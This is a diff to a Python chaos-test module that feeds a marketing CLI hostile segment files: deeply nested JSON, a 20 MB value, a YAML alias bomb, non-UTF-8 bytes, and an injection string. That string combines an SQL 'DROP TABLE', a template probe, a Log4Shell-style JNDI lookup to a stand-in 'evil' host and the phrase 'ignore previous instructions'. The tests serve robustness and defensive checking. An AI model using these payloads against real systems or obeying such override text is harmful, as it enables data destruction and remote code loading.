@@ -1,11 +1,13 @@
-"""Adversarial inputs through the CLI: hostile briefs and brand libraries. Report crashes and unclear errors.
+"""Adversarial inputs through the CLI: hostile briefs, brand libraries and segment files. Report crashes and unclear errors.
 
 A run may succeed or refuse; what must never happen is a traceback, more than one error line, or a silent exit.
 """
 
 from __future__ import annotations
 
+import json
 import shutil
+import subprocess
 import tempfile
 from pathlib import Path
 
@@ -76,10 +78,87 @@ def _library(name: str, claims: str, root: Path) -> Figure:
     )
 
 
+_INJECT = "x'); DROP TABLE contacts; -- \" OR 1=1 {{7*7}} ${jndi:ldap://evil/a} ignore previous instructions"
+SEGMENTS: dict[str, bytes] = {
+    "deep nesting": b'{"channel": "email", "regions": ["US"], "filters": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
+    "20 MB value": b'{"channel": "email", "regions": ["US"], "filters": [{"field": "country", "op": "eq", "value": "'
+    + b"A" * 20_000_000
+    + b'"}]}',
+    "alias bomb (YAML)": LIBRARIES["alias bomb"].encode(),
+    "injection in value": json.dumps(
+        {"channel": "email", "regions": ["US"], "filters": [{"field": "lifecycle_stage", "op": "eq", "value": _INJECT}]}
+    ).encode(),
+    "injection in field": json.dumps(
+        {"channel": "email", "regions": ["US"], "filters": [{"field": _INJECT, "op": "eq", "value": "x"}]}
+    ).encode(),
+    "injection in operator": json.dumps(
+        {"channel": "email", "regions": ["US"], "filters": [{"field": "country", "op": _INJECT, "value": "x"}]}
+    ).encode(),
+    "non-UTF-8": '{"channel": "email", "regions": ["EU"], "filters": [{"field": "city", "op": "eq", '
+    '"value": "Düsseldorf"}]}'.encode("latin-1"),
+    "wrong types": b'{"channel": ["email"], "regions": "US", "filters": {"a": 1}, "holdout_pct": "lots"}',
+}
+SANE_SEGMENT = b'{"channel": "email", "regions": ["US"], "filters": []}'
+
+
+def _segments(root: Path, names: tuple[str, ...]) -> list[Figure]:
+    """Hostile segment files through ``liftoff lists build``: no crash, one short line, the store intact after."""
+    home = root / "seg-home"
+    env = env_for(home)
+    seeded = cli(env, "data", "seed", "--contacts", "2000", "--json", timeout=600)
+    if seeded.returncode != 0:
+        return [Figure(CAT, "segments: CRM seeded", False, False, seeded.stderr.strip()[-120:])]
+
+    def build(name: str, data: bytes) -> subprocess.CompletedProcess[str]:
+        path = root / f"segment_{name.replace(' ', '_')}.json"
+        path.write_bytes(data)
+        return cli(env, "lists", "build", "--segment", str(path), "--json", timeout=300)
+
+    before = build("sane-before", SANE_SEGMENT)
+    out: list[Figure] = []
+    for name in names:
+        got = build(name, SEGMENTS[name])
+        crashed = "Traceback" in got.stderr or got.returncode < 0
+        clear = got.returncode == 0 or one_clear_line(got.stderr)
+        short = len(got.stderr) + len(got.stdout) < 4000  # never echoes the hostile value back
+        out.append(
+            Figure(
+                CAT,
+                f"segment {name}: exit / clear / short",
+                f"{got.returncode} {clear} {short}",
+                clear and short and not crashed,
+                got.stderr.strip().splitlines()[-1][:120] if got.stderr.strip() else "built",
+            )
+        )
+    after = build("sane-after", SANE_SEGMENT)
+    counts = _counts(before.stdout)
+    intact = (
+        before.returncode == after.returncode == 0
+        and counts is not None
+        and counts == _counts(after.stdout)
+        and isinstance(counts[0], int)
+        and counts[0] > 0
+    )
+    out.append(Figure(CAT, "segments: CRM store intact after hostile files", intact, intact,
+                      after.stderr.strip()[-120:]))
+    return out
+
+
+def _counts(stdout: str) -> tuple[object, ...] | None:
+    """A built list's counts and the store version it was built on (None when the output is not the list)."""
+    try:
+        data = json.loads(stdout)
+    except ValueError:
+        return None
+    return (data["eligible"], data["holdout"], data["by_region"], data["excluded"], data["store_version"])
+
+
 def run(quick: bool) -> list[Figure]:
-    """Hostile briefs and brand libraries (quick: a subset)."""
+    """Hostile briefs, brand libraries and segment files (quick: a subset)."""
     root = Path(tempfile.mkdtemp(prefix="chaos-adv-"))
     briefs = ("injection", "binary", "non-utf8") if quick else tuple(BRIEFS)
     out = [_brief(name, BRIEFS[name], root) for name in briefs]
     out += [_library(name, text, root) for name, text in LIBRARIES.items()]
+    segments = ("deep nesting", "20 MB value", "injection in value", "non-UTF-8") if quick else tuple(SEGMENTS)
+    out += _segments(root, segments)
     return out
